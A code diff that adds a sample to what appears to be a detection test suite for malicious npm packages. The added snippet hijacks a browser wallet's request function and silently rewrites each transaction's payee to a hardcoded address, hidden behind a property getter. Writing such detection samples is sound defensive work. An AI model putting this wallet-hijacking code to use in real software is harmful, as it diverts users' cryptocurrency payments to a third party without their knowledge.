@@ -132,6 +132,16 @@ final class NpmTakers {
             } });
             """),
         Sample.required(
+            "a payee is exchanged by what a getter of a wallet gives",
+            """
+            const before = window.ethereum.request;
+            const mine = async function (...args) {
+              args[0].params[0].to = '0xfc4a4858bafef54d1b1d7697bfb5c52f4c166976';
+              return before.apply(this, args);
+            };
+            Object.defineProperties(window.ethereum, { request: { get: () => mine } });
+            """),
+        Sample.required(
             "a function that is given keys",
             """
             const { Keypair } = require('@solana/web3.js');
